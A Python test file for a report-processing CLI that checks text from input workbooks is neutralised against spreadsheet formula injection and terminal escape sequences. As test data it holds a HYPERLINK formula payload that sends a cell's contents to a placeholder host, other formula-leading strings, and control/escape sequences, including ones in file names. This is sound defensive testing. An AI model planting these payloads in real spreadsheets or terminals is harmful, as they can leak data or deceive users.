"""Reliability campaign, formula and terminal injection: text that came from a file never
becomes a formula in a CSV or xlsx output, and never an escape sequence on a terminal.

JSON is data for programs and keeps every text as it was (checked here too).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from _reader_kit import CATALOGUE_YAML, filled, submission, write_xlsx
from _reliability_kit import SHEET, edit
from conftest import EXAMPLES, SHIPPED_CATALOGUE, Result
from iku_cli.outputs.safety import (
    FORMULA_START,
    is_formula_like,
    neutralise,
    neutralise_value,
    printable,
)

Run = Callable[..., Result]

RISKY = ["=1+1", "+62 812 555", "-5 kegiatan", "@SUM(A1:A9)", "\t=1", "\r=1"]
PAYLOAD = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
ESCAPES = "\x1b]0;judul\x07\x1b[2J\x1b[31mMERAH\x9b1m\u202e001"


# --------------------------------------------------------------------------- the rules


@pytest.mark.parametrize("text", RISKY)
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text
    assert not is_formula_like(neutralise(text))


@pytest.mark.parametrize("text", ["Biro POD", "1.1", " =1", "", "'=1", "Rp 1.234", "100%"])
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


def test_only_text_is_neutralised_in_a_csv_field() -> None:
    assert neutralise_value(-5.0) == -5.0 and neutralise_value(None) is None
    assert neutralise_value(True) is True and neutralise_value("-5") == "'-5"
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}


def test_printable_text_for_a_terminal() -> None:
    assert printable(ESCAPES) == "?]0;judul??[2J?[31mMERAH?1m?001"
    assert printable("Biro POD\tTW4\nbaris") == "Biro POD\tTW4\nbaris"  # tab and newline stay
    assert printable("Kalimantan Timur – 2025 ✓") == "Kalimantan Timur – 2025 ✓"


# --------------------------------------------------------------------------- CSV


def _risky_catalogue(tmp_path: Path) -> Path:
    """A catalogue whose names, owners, units and band labels start like formulas."""
    text = CATALOGUE_YAML.replace(
        "name: Persentase kebijakan yang disahkan",
        f"name: '{PAYLOAD.replace(chr(39), chr(39) * 2)}'",
    )
    text = text.replace("name: Indeks kematangan", "name: '+62 812 555'")
    text = text.replace("unit: Indeks", "unit: '-'")
    text = text.replace("name: Rasio Biro B", "name: '@SUM(A1:A9)'")
    text = text.replace("name: Persentase pendapatan yang disetor", 'name: "\\t=1"')
    text = text.replace(
        "schema: 1\n",
        "schema: 1\nachievement:\n  scale:\n    - {min: 50, label: '=baik'}\n"
        "    - {min: null, label: '-kurang'}\n",
    )
    path = tmp_path / "indicators.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def _csv_fields(data: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.lstrip("\ufeff"))))


def test_csv_text_never_starts_a_formula(run: Run, tmp_path: Path) -> None:
    catalogue = _risky_catalogue(tmp_path)
    book = write_xlsx(tmp_path / "=1+1 laporan.xlsx", submission(filled(), period="TW4"))
    out = tmp_path / "hasil.csv"
    printed = run("compute", str(book), "--format", "csv", "-c", str(catalogue))
    written = run("compute", str(book), "--format", "csv", "-o", str(out), "-c", str(catalogue))
    assert printed.exit_code == written.exit_code == 0, printed.output
    for text in (printed.stdout, out.read_text(encoding="utf-8-sig")):
        rows = _csv_fields(text)
        assert len(rows) == 4
        for row in rows:
            for column, value in row.items():
                assert not is_formula_like(value), (column, value)
        names = {row["code"]: row["name"] for row in rows}
        assert names["1.1"] == "'" + PAYLOAD
        assert names["1.2"] == "'+62 812 555" and names["2.1"] == "'@SUM(A1:A9)"
        assert names["1.10"] == "'\t=1"
        assert {row["category"] for row in rows} <= {"'=baik", "'-kurang", ""}
        assert rows[0]["value"] == "80.0"  # numbers stay numbers


def test_json_keeps_text_as_data(run: Run, tmp_path: Path) -> None:
    catalogue = _risky_catalogue(tmp_path)
    book = write_xlsx(tmp_path / "a.xlsx", submission(filled(), period="TW4"))
    result = run("compute", str(book), "--format", "json", "-c", str(catalogue))
    names = {i["code"]: i["name"] for i in json.loads(result.stdout)["indicators"]}
    assert names["1.1"] == PAYLOAD and names["1.10"] == "\t=1"


# --------------------------------------------------------------------------- xlsx


def _cells(path: Path) -> list[tuple[str, str, Any, str, bool]]:
    book = openpyxl.load_workbook(path)
    return [
        (ws.title, c.coordinate, c.value, c.data_type, bool(c.quotePrefix))
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
    ]


def _assert_no_formula(path: Path) -> list[str]:
    """Every cell is data; every formula-like text is a string with the quote prefix."""
    risky = []
    for sheet, ref, value, kind, quoted in _cells(path):
        assert kind != "f", (sheet, ref, value)
        if isinstance(value, str) and is_formula_like(value):
            assert kind == "s" and quoted, (sheet, ref, value)
            risky.append(value)
    return risky


def test_recap_text_from_submissions_never_starts_a_formula(run: Run, tmp_path: Path) -> None:
    folder = tmp_path / "laporan"
    shutil.copytree(EXAMPLES / "2025", folder)
    source = folder / "2025-TW4-biro-pod.xlsx"
    book = openpyxl.load_workbook(source)
    data, identity = book["Data"], book["Identitas"]
    header = next(r for r in data.iter_rows() if any(c.value == "Keterangan" for c in r))
    note_col = next(c.column for c in header if c.value == "Keterangan")
    for offset, text in enumerate([PAYLOAD, *RISKY], start=1):
        cell = data.cell(row=header[0].row + offset, column=note_col)
        cell.value = text
        cell.data_type = "s"  # a string that only looks like a formula
    prepared = next(r[1] for r in identity.iter_rows() if r[0].value == "Disusun oleh")
    prepared.value, prepared.data_type = "@Ani", "s"
    data.title = "=Data"  # the sheet's name appears in every source row
    book.save(source)
    out = tmp_path / "rekap.xlsx"
    result = run(
        "recap", str(folder), "--year", "2025", "-o", str(out), "-c", str(SHIPPED_CATALOGUE)
    )
    assert result.exit_code in (0, 1), result.output
    risky = _assert_no_formula(out)
    for text in (PAYLOAD, "+62 812 555", "-5 kegiatan", "@SUM(A1:A9)", "=Data"):
        assert text in risky, text


def test_template_text_from_the_catalogue_never_starts_a_formula(run: Run, tmp_path: Path) -> None:
    catalogue = _risky_catalogue(tmp_path)
    out = tmp_path / "templat"
    result = run("template", str(out), "--year", "2025", "--period", "TW4", "-c", str(catalogue))
    assert result.exit_code == 0, result.output
    for path in out.glob("[!.]*.xlsx"):
        for sheet, ref, value, kind, _ in _cells(path):
            assert kind != "f", (path.name, sheet, ref, value)


# --------------------------------------------------------------------------- terminal


def _escaping_workbook(tmp_path: Path) -> Path:
    """A submission whose Nilai, note and sheet texts hold escape sequences (as _xHHHH_)."""
    text = "".join(
        f"_x{ord(c):04X}_" if ord(c) < 32 or 0x7F <= ord(c) < 0xA0 else c for c in ESCAPES
    )
    data = edit(
        SHEET,
        lambda x: re.sub(
            rb'<c r="F5"( s="\d+")?><v>10</v></c>',
            b'<c r="F5" t="inlineStr"><is><t>' + text.encode() + b"</t></is></c>",
            x,
        ),
    )
    path = tmp_path / "laporan.xlsx"
    path.write_bytes(data)
    return path


def test_escape_sequences_from_a_cell_never_reach_the_terminal(run: Run, tmp_path: Path) -> None:
    path = _escaping_workbook(tmp_path)
    c = ("-c", str(SHIPPED_CATALOGUE))
    for args in (
        ("validate", str(path), *c),
        ("compute", str(path), *c),
        ("explain", "1.1", str(path), *c),
        ("recap", str(path), "--year", "2025", "-o", str(tmp_path / "r.xlsx"), *c),
    ):
        result = run(*args)
        assert "\x1b" not in result.output and "\x9b" not in result.output, args
        assert "\u202e" not in result.output and "\x07" not in result.output, args
    shown = run("validate", str(path), *c).stdout
    assert "?]0;judul" in " ".join(shown.split())  # shown, made harmless
    data = json.loads(run("validate", str(path), "--format", "json", *c).stdout)
    assert any("\x1b]0;judul" in f["message"] for f in data["findings"])  # JSON: as it was


@pytest.mark.skipif(os.name != "posix", reason="file names are text on Windows")
def test_escape_sequences_in_a_file_name_never_reach_the_terminal(run: Run, tmp_path: Path) -> None:
    folder = tmp_path / "laporan"
    folder.mkdir()
    shutil.copy(EXAMPLES / "2025" / "2025-TW4-biro-pod.xlsx", folder / "a\x1b[2Jb.xlsx")
    (folder / "c\x1b]0;x\x07.xlsx").write_bytes(b"not a workbook")
    for args in (
        ("validate", str(folder)),
        ("compute", str(folder)),
        ("explain", "1.1", str(folder)),
    ):
        result = run(*args, "-c", str(SHIPPED_CATALOGUE))
        assert "\x1b" not in result.output and "\x07" not in result.output, args
